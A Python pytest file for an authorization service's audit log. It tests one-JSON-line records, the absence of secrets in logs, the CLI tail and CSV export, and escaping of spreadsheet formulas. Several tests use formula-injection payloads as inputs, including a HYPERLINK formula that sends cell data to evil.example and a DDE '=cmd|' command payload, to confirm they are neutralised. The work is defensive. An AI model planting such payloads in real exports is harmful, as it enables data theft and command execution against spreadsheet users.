"""The audit trail: one JSON line per decision, no secrets anywhere, tail and export."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import time
from pathlib import Path
from uuid import UUID

import pytest
import yaml

from extauthz.audit.cli import csv_cell
from extauthz.audit.record import FIELDS
from tests.support.cli import run_cli
from tests.support.issuer import AUDIENCE, LocalIssuer
from tests.support.poll import fetch_until
from tests.support.redis import RedisServer
from tests.support.requests import identity, request_view
from tests.support.stack import ExtAuthz, Gateway


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
    tmp_path: Path, issuer: LocalIssuer, redis: RedisServer
) -> None:
    (tmp_path / "p.yaml").write_text("id: admin\nmatch: {paths: [{prefix: /admin/}]}\n"
                                     "require: {claims: {groups: [root]}}\n")
    store = {"url": redis.url, "prefix": "aud:"}
    service = ExtAuthz(tmp_path, {
        "issuers": [{"issuer": issuer.issuer, "audiences": [AUDIENCE]}], "store": store,
        "audit": {"redis_stream": True, "flush_interval": 0.05}, "token": {"cookie": "session"},
        "default_action": "authenticated"}, args=["--workers", "2"])
    # Redis holds the policies here: apply them first
    config = tmp_path / "cli.yaml"
    config.write_text(yaml.safe_dump({"store": store}))
    applied = run_cli(config, "policy", "apply", "-f", str(tmp_path / "p.yaml"))
    assert applied.returncode == 0, applied.stderr
    service.start()
    gateway = Gateway(tmp_path, service).start()
    secrets: list[str] = []
    try:
        alice = issuer.mint("ES256", jti="alice-token")
        bob = issuer.mint("ES256", sub="bob", email="bob@example.com")
        secrets += [alice, bob, alice.split(".")[2], bob.split(".")[2]]
        requests = [
            ("/ok?secret_query=hunter2", {"authorization": f"Bearer {alice}"}, 200),
            ("/admin/x", {"authorization": f"Bearer {alice}"}, 403),
            ("/x", {"cookie": f"session={bob}; other=1"}, 200),
            ("/x", {"authorization": "Bearer not.a.token"}, 401),
            ("/x", {}, 401),
        ]
        for path, headers, want in requests:
            assert gateway.get(path, headers).status == want
        time.sleep(0.5)

        assert service.process is not None
        out = service.process.output()
        lines = [json.loads(ln) for ln in out.splitlines() if ln.startswith('{"time"')]
        assert len(lines) == len(requests)
        for line in lines:
            assert tuple(line) == FIELDS
        first = next(ln for ln in lines if ln["path"] == "/ok")
        assert UUID(first["request_id"])  # made by Envoy
        assert first["decision"] == "allow"
        assert (first["subject"], first["issuer"], first["client_id"]) == ("alice", issuer.issuer, "cli")
        assert (first["method"], first["path"], first["status"]) == ("GET", "/ok", 200)
        assert first["source"]  # Envoy's peer address
        denied = next(ln for ln in lines if ln["path"] == "/admin/x")
        assert (denied["decision"], denied["reason"], denied["policy"]) == (
            "deny", "claim_mismatch", "admin")

        everything = out + gateway.procs[1].output()
        for secret in [*secrets, "hunter2", "not.a.token"]:
            assert secret not in everything

        tail = run_cli(config, "audit", "tail", "--subject", "alice", "--decision", "deny")
        assert tail.returncode == 0, tail.stderr
        tailed = [json.loads(ln) for ln in tail.stdout.splitlines()]
        assert [(t["path"], t["reason"]) for t in tailed] == [("/admin/x", "claim_mismatch")]

        export = run_cli(config, "audit", "export", "--since", "5m", "--format", "csv")
        rows = csv_rows(export.stdout)
        assert len(rows) == len(requests)
        assert {r["decision"] for r in rows} == {"allow", "deny"}
        assert run_cli(config, "audit", "export", "--since=-5m", "--until", "4m").stdout.count("\n") == 1
        bad = run_cli(config, "audit", "export", "--since", "yesterday")
        assert bad.returncode == 2
        assert "time 'yesterday': write 2026-11-23T10:00:00Z" in bad.stderr
    finally:
        gateway.stop()
        service.stop()


def test_the_audit_commands_say_they_need_redis(tmp_path: Path) -> None:
    config = tmp_path / "c.yaml"
    config.write_text("{}\n")
    result = run_cli(config, "audit", "tail")
    assert result.returncode == 2
    assert "the audit trail is read from Redis" in result.stderr


def test_the_fast_line_format_is_json_dumps_byte_for_byte() -> None:
    import dataclasses

    from extauthz import decision as d
    from extauthz import denials
    from extauthz.audit.record import LineFormat, audit_record

    ident = identity('al"ice\\', issuer="https://idp.example/é", username="alice",
                     audiences=("api",), groups=("dev",), client_id="cli", acr="phr",
                     auth_time=1700000000, jti="j1", issued_at=1.0, expires_at=2.0)
    view = request_view("/p?secret=1", host="h.example", source_address="203.0.113.7",
                        request_id="r\n1")
    decisions = [
        d.allow("id-1", ident, reason="allowed", description="allowed", upstream_headers=(),
                remove_headers=(), policy_id="p1"),
        d.allow("id-2", dataclasses.replace(ident, acr=None), reason="dry_run", description="x",
                upstream_headers=(), remove_headers=(), policy_id="p☃", would_deny="claim_mismatch"),
        denials.forbidden("id-3", reason="no_policy", description="no policy allows this request"),
    ]
    fmt = LineFormat()
    for now in (1700000000.0, 1700000000.5004, 1700000001.9876, 1700000000.9999996, 1700000002.9994999):
        for decision in decisions:
            for v in (view, None):
                for _ in range(2):  # the second time from the kept parts
                    want = json.dumps(audit_record(decision, v, now), separators=(",", ":"))
                    assert fmt.line(decision, v, now) == want


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+2", "'\uff1d1+2"),
    ("api.example.com", "api.example.com"), ("/a=b", "/a=b"), ("", ""), (None, None), (200, 200),
    (-1, -1), (True, True),
])
def test_a_csv_cell_that_would_start_a_formula_is_quoted_as_text(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(
    tmp_path: Path, issuer: LocalIssuer, redis: RedisServer
) -> None:
    """x-request-id, Host and a token's sub are chosen by clients and users: through the gateway
    the id is Envoy's own, and in `audit export --format csv` no cell starts a formula."""
    store = {"url": redis.url, "prefix": "csv:"}
    service = ExtAuthz(tmp_path, {
        "issuers": [{"issuer": issuer.issuer, "audiences": [AUDIENCE]}], "store": store,
        "audit": {"redis_stream": True, "flush_interval": 0.05},
        "default_action": "authenticated"})
    config = tmp_path / "cli.yaml"
    config.write_text(yaml.safe_dump({"store": store}))
    service.start()
    gateway = Gateway(tmp_path, service).start()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open report")'
    sub = "=cmd|' /C calc'!A0"
    try:
        token = issuer.mint("ES256", sub=sub)
        assert gateway.get("/ok", {"x-request-id": formula,
                                   "authorization": f"Bearer {token}"}).status == 200
        assert gateway.get("/host", {"x-request-id": formula, "host": "=1+2"}).status == 400

        def export_csv() -> subprocess.CompletedProcess[str]:
            export = run_cli(config, "audit", "export", "--since", "5m", "--format", "csv")
            assert export.returncode == 0, export.stderr
            return export

        export = fetch_until(export_csv, lambda e: len(csv_rows(e.stdout)) >= 2, 5)
        rows = csv_rows(export.stdout)
        assert len(rows) == 2, rows
        assert formula not in export.stdout  # the gateway replaced the client's id...
        allowed = next(r for r in rows if r["decision"] == "allow")
        assert UUID(allowed["request_id"])  # ...with its own
        assert allowed["subject"] == "'" + sub  # text, not a formula
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    finally:
        gateway.stop()
        service.stop()


def test_the_export_escapes_every_client_chosen_cell_even_when_the_gateway_did_not(
    tmp_path: Path, redis: RedisServer
) -> None:
    """A stream written by a gateway that keeps clients' x-request-id (or by a mesh sidecar)."""
    record = {name: None for name in FIELDS}
    record.update(time="2026-11-23T10:00:00.000Z", decision="deny", status=401,
                  reason="token_missing", method="GET", host="-2+3", path="/@x",
                  subject="@SUM(A1:A9)", request_id='=HYPERLINK("https://evil.example")',
                  source="+1", username="\t=1")
    redis.client().xadd("extauthz:audit", {"record": json.dumps(record)})
    config = tmp_path / "cli.yaml"
    config.write_text(yaml.safe_dump({"store": {"url": redis.url}}))
    export = run_cli(config, "audit", "export", "--since", "0", "--format", "csv")
    assert export.returncode == 0, export.stderr
    (row,) = csv_rows(export.stdout)
    assert (row["host"], row["subject"], row["request_id"], row["source"], row["username"]) == (
        "'-2+3", "'@SUM(A1:A9)", '\'=HYPERLINK("https://evil.example")', "'+1", "'\t=1")
    assert (row["path"], row["status"], row["decision"]) == ("/@x", "401", "deny")
    exported = run_cli(config, "audit", "export", "--since", "0", "--format", "json")
    assert json.loads(exported.stdout) == record


@pytest.mark.parametrize("name", ["gateway.yaml", "kube-apiserver.yaml"])
def test_the_envoy_examples_replace_a_clients_request_id(name: str) -> None:
    doc = yaml.safe_load((Path(__file__).parents[1] / "envoy" / name).read_text())
    for listener in doc["static_resources"]["listeners"]:
        for chain in listener["filter_chains"]:
            for f in chain["filters"]:
                hcm = f["typed_config"]
                # preserve_external_request_id only acts on edge requests, which needs both
                assert hcm["use_remote_address"] is True
                assert hcm["preserve_external_request_id"] is False
                assert hcm["generate_request_id"] is True


@pytest.mark.parametrize("value", ["line\u2028break", "nel\x85", "del\x7f", "bell\x07", "é", "\ud800"])
def test_an_audit_line_stays_one_printable_ascii_line_whatever_a_client_sends(value: str) -> None:
    """orjson writes non-ASCII raw; a reader that splits at U+2028 or NEL (Python's splitlines
    does) must still see one line per decision, exactly as json.dumps writes it."""
    from extauthz import decision as d
    from extauthz.audit.record import LineFormat, audit_record

    view = request_view("/p", host="h.example", source_address="203.0.113.7", request_id=value)
    decision = d.allow("id-1", None, reason="allowed", description="public", upstream_headers=(),
                       remove_headers=(), policy_id=value)
    line = LineFormat().line(decision, view, 1700000000.25)
    assert line == json.dumps(audit_record(decision, view, 1700000000.25), separators=(",", ":"))
    assert line.isascii()
    assert all(" " <= c < "\x7f" for c in line)
    assert line.splitlines() == [line]
    assert json.loads(line)["request_id"] == json.loads(line)["policy"] == value


def test_a_step_up_time_beyond_64_bits_is_still_written() -> None:
    from extauthz import decision as d
    from extauthz.audit.record import LineFormat

    ident = identity("alice", issuer="https://idp.example", audiences=("api",), client_id="cli",
                     acr="phr", auth_time=-(2**70), jti="j1", issued_at=1.0, expires_at=2.0)
    decision = d.allow("id-1", ident, reason="allowed", description="allowed",
                       upstream_headers=(), remove_headers=(), policy_id="p1")
    assert json.loads(LineFormat().line(decision, None, 1700000000.0))["stepup_auth_time"] == -(2**70)
